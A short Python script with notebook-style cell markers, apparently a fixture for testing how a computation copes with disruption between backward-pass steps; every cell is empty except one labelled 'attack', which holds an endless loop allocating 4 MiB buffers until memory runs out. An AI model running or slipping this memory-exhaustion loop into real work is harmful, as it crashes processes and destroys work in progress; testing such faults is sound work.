# %% setup
# %% forward
# %% backward, first half
# %% attack
x = []
while True:
    x.append(bytearray(1 << 22))
# %% backward, second half
